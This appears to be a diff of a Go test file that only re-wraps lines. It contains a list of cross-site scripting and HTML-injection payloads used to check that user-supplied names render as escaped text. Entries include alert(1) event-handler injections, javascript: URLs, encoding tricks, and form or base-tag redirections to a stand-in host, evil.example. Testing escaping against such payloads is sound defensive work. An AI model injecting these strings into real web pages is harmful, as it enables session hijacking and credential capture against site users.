@@ -20,10 +20,14 @@ var hostile = []string{
 	`</textarea><svg onload=alert(1)>`, `" onfocus="alert(1)" autofocus="`, `' onmouseover='alert(1)`, `javascript:alert(1)`,
 	`<svg/onload=alert(1)>`, `<iframe src="javascript:alert(1)">`, `<a href="javascript:alert(1)">x</a>`, `<base href=//evil.example>`,
 	`<meta http-equiv=refresh content=0;url=//evil.example>`, `<link rel=stylesheet href=//evil.example>`, `<style>*{display:none}</style>`,
-	`<form action=//evil.example>`, `<input name=password>`, `<button formaction=//evil.example>`, `{{.}}`, `{{template "head"}}`, `${alert(1)}`,
-	"<!--", "-->", "<![CDATA[", "]]>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", `\u003cscript\u003e`, "<scr\x00ipt>", "<ſcript>",
-	"＜script＞", `<math><mtext></p><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
-	`<template><script>alert(1)</script></template>`, `x" style="background:url(//evil.example)`, `<body onload=alert(1)>`, `<details open ontoggle=alert(1)>`,
+	`<form action=//evil.example>`, `<input name=password>`, `<button formaction=//evil.example>`, `{{.}}`, `{{template "head"}}`,
+	`${alert(1)}`,
+	"<!--", "-->", "<![CDATA[", "]]>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", `\u003cscript\u003e`, "<scr\x00ipt>",
+	"<ſcript>",
+	"＜script＞", `<math><mtext></p><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
+	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
+	`<template><script>alert(1)</script></template>`, `x" style="background:url(//evil.example)`, `<body onload=alert(1)>`,
+	`<details open ontoggle=alert(1)>`,
 	`<video><source onerror=alert(1)>`, `<object data="data:text/html,<script>alert(1)</script>">`, `<embed src=javascript:alert(1)>`,
 }
 
@@ -123,7 +127,8 @@ func TestNamesOfPeopleAndPlacesStayText(t *testing.T) {
 		token, _ := s.Invite(t, nora, wire.InviteCreate{Room: room})
 		v := s.visitor(t)
 		return map[string]answer{
-			"sign in": v.opens("/signin"), "join": v.opens("/join/" + token), "shell": v.opens("/"), "manifest": v.opens("/manifest.webmanifest"),
+			"sign in": v.opens("/signin"), "join": v.opens("/join/" +
+				token), "shell": v.opens("/"), "manifest": v.opens("/manifest.webmanifest"),
 		}
 	}
 	harmless := show("harmless")
